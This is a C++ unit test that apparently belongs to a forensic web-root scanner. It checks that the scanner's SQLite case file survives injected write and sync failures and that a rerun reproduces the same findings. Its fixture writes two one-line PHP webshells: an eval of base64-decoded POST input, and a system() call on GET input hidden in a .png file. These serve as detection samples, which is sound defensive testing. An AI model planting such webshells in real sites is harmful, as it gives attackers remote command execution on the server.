// Fault injection under the case file: the web-root investigation (findings, platform and
// package rows, in its own transactions) is run with the Nth SQLite write failing, then with
// the Nth sync failing, for every N until a run sees no fault. After each failed run the case
// must pass PRAGMA integrity_check, and a rerun without faults must complete with exactly the
// findings of a run that never failed (SQLite's crash9.test and malloc_common.tcl, applied
// to a tourniquet stage).
#include <gtest/gtest.h>

#include <cstdio>
#include <filesystem>
#include <set>
#include <string>

#include "casefile/casefile.h"
#include "evidence/evidence.h"
#include "fault/fault_vfs.h"
#include "support/testing.h"
#include "webroot/webroot.h"

namespace tq {
namespace {

namespace fs = std::filesystem;

// Findings as a set of (kind, dedupe key, detail): what a rerun must reproduce.
std::set<std::string> FindingSet(Case& c) {
  std::set<std::string> out;
  auto all = ListFindings(c.db());
  EXPECT_TRUE(all.ok());
  if (!all.ok()) return out;
  for (const Finding& f : *all) out.insert(f.kind + "|" + f.dedupe_key + "|" + f.detail_json);
  return out;
}

std::string IntegrityCheck(Case& c) {
  auto st = c.db().Prepare("PRAGMA integrity_check");
  if (!st.ok()) return st.status().ToString();
  auto row = st->Step();
  if (!row.ok() || !*row) return "no result";
  return st->String(0);
}

class FaultInjection : public ::testing::Test {
 protected:
  void SetUp() override {
    testing::InstallFaultVfs();
    // A small web root: a planted webshell, a disguised PHP file, and version files.
    std::string root = tmp_ / "www";
    fs::create_directories(root + "/pub/media/catalog");
    fs::create_directories(root + "/app/etc");
    testing::WriteFile(root + "/index.php", "<?php require __DIR__ . '/app/bootstrap.php';\n");
    testing::WriteFile(root + "/app/etc/di.xml", "<config/>\n");
    testing::WriteFile(root + "/app/etc/env.php", "<?php return ['db' => []];\n");
    testing::WriteFile(root + "/composer.lock",
                       R"({"packages":[{"name":"magento/product-community-edition",)"
                       R"("version":"2.4.6-p5"}]})");
    testing::WriteFile(root + "/pub/media/catalog/x.php",
                       "<?php @eval(base64_decode($_POST['c']));\n");
    testing::WriteFile(root + "/pub/media/catalog/logo.png", "<?php system($_GET['x']); ?>\n");
    CaseInfo info;
    info.name = "fault";
    info.platform = "magento";
    {
      auto c = Case::Create(template_, info);
      ASSERT_TRUE(c.ok()) << c.status().message();
      evidence::CollectOptions o;
      o.label = "webroot";
      o.threads = 1;
      auto sum = evidence::Collect(**c, {root}, o);
      ASSERT_TRUE(sum.ok()) << sum.status().message();
    }
    std::string clean = tmp_ / "clean";
    fs::copy(template_, clean, fs::copy_options::recursive);
    auto c = Case::Open(clean);
    ASSERT_TRUE(c.ok());
    auto r = webroot::InvestigateWebroot(**c, Options());
    ASSERT_TRUE(r.ok()) << r.status().message();
    want_ = FindingSet(**c);
    ASSERT_GE(want_.size(), 2u);  // the test means something only if there are findings
  }
  static webroot::WebrootOptions Options() {
    webroot::WebrootOptions o;
    o.threads = 1;
    return o;
  }
  // Every N for one kind of fault; returns how many runs failed cleanly.
  int EveryN(testing::FaultKind kind) {
    int failed_runs = 0;
    for (uint64_t n = 1; n < 2000; ++n) {
      std::string dir =
          tmp_ / ("n" + std::to_string(static_cast<int>(kind)) + "_" + std::to_string(n));
      fs::copy(template_, dir, fs::copy_options::recursive);
      bool fired;
      {
        auto c = Case::Open(dir);
        EXPECT_TRUE(c.ok()) << n;
        if (!c.ok()) return failed_runs;
        testing::ArmFault(kind, n);
        auto r = webroot::InvestigateWebroot(**c, Options());
        fired = testing::FaultFired();
        testing::DisarmFault();
        if (!fired) {
          EXPECT_TRUE(r.ok()) << n << ": " << r.status().message();
          EXPECT_EQ(FindingSet(**c), want_) << n;
        } else {
          ++failed_runs;  // failed, or succeeded after SQLite retried: both fine here
        }
      }  // closed after the fault, as a killed or failed command leaves it
      if (!fired) {
        fs::remove_all(dir);
        return failed_runs;
      }
      {
        auto again = Case::Open(dir);
        EXPECT_TRUE(again.ok()) << n << ": " << again.status().message();
        if (!again.ok()) return failed_runs;
        EXPECT_EQ(IntegrityCheck(**again), "ok") << n;
        auto r = webroot::InvestigateWebroot(**again, Options());
        EXPECT_TRUE(r.ok()) << n << ": " << r.status().message();
        EXPECT_EQ(FindingSet(**again), want_) << "rerun after fault " << n;
      }
      fs::remove_all(dir);
      if (HasFailure()) return failed_runs;
    }
    ADD_FAILURE() << "still faulting after 2000 operations";
    return failed_runs;
  }

  testing::TempDir tmp_;
  std::string template_ = tmp_ / "template";
  std::set<std::string> want_;
};

TEST_F(FaultInjection, EveryFailedWriteLeavesACaseThatRerunsToTheSameFindings) {
  int runs = EveryN(testing::FaultKind::kWrite);
  EXPECT_GT(runs, 3);
  std::printf("webroot investigate: %d runs with a failed write, each clean\n", runs);
}

TEST_F(FaultInjection, EveryFailedSyncLeavesACaseThatRerunsToTheSameFindings) {
  int runs = EveryN(testing::FaultKind::kSync);
  EXPECT_GT(runs, 0);
  std::printf("webroot investigate: %d runs with a failed sync, each clean\n", runs);
}

}  // namespace
}  // namespace tq
